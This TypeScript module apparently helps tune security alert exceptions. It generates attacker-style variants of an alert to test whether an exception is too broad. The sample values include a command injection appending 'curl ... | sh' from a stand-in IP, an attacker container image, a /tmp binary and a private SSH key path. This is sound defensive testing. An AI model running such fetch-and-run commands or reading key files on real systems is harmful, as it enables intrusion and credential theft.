// Alerts like this one, each changed as an attacker would who hides behind the same exception.

import type { Alert, FieldValue } from '../../alerts/index.ts';

export interface NearMiss {
  readonly title: string;
  readonly alert: Alert;
}

/** Only changes of fields that the alert shows; `fields` are those that the exception rests on. */
export function nearMisses(alert: Alert, fields: readonly string[]): NearMiss[] {
  const misses: NearMiss[] = [];
  const shown = (name: string) => typeof alert.fields.get(name) === 'string' && alert.fields.get(name) !== '';
  const rests = (name: string) => fields.includes(name);
  const add = (title: string, changes: Readonly<Record<string, FieldValue>>) =>
    misses.push({ title, alert: withFields(alert, changes) });
  if (shown('container.image.repository'))
    add('another image', {
      'container.image.repository': 'docker.io/attacker/tool',
      'container.image.digest': `sha256:${'0'.repeat(64)}`,
    });
  if (shown('proc.cmdline') && rests('proc.cmdline'))
    add('a command appended', {
      'proc.cmdline': `${alert.fields.get('proc.cmdline')}; curl -s http://198.51.100.7/x | sh`,
      'proc.args': 'x',
    });
  if (rests('proc.exepath'))
    add('the same names, but a program from /tmp', { 'proc.exepath': '/tmp/x', 'proc.exe': '/tmp/x' });
  else if (shown('proc.cmdline') && shown('proc.name')) {
    const line = String(alert.fields.get('proc.cmdline'));
    const rest = line.slice((line.split(' ', 1)[0] ?? '').length);
    add('a renamed program with the same arguments', {
      'proc.name': 'kworker',
      'proc.cmdline': `kworker${rest}`,
    });
  }
  if (rests('proc.pexepath'))
    add('another parent', { 'proc.pexepath': '/tmp/.parent', 'proc.pname': 'parent' });
  if (rests('proc.aexepath[2]')) add('another grandparent', { 'proc.aexepath[2]': '/tmp/.parent' });
  if (rests('fd.name')) add('another file', { 'fd.name': '/root/.ssh/id_ed25519' });
  return misses;
}

function withFields(alert: Alert, changes: Readonly<Record<string, FieldValue>>): Alert {
  const fields = new Map(alert.fields);
  for (const [name, value] of Object.entries(changes)) if (fields.has(name)) fields.set(name, value);
  return { ...alert, fields };
}
